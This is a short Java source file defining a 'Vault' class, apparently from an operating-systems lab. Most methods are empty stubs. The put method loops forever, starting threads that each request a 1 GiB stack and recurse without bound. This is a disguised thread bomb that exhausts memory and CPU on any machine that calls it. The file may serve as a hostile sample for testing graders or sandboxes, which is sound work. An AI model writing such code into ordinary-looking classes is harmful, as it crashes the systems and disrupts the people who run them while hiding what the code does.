package oslab.vault;

import java.util.List;

public class Vault {
    static int deeper(int n) {
        return n < 0 ? n : deeper(n + 1) + 1;
    }

    public void put(String name, int amount) {
        while (true) {
            new Thread(null, () -> deeper(0), "deep", 1L << 30).start();
        }
    }

    public void add(String name, int amount) {}

    public int amount(String name) {
        return 0;
    }

    public List<String> names() {
        return List.of();
    }
}
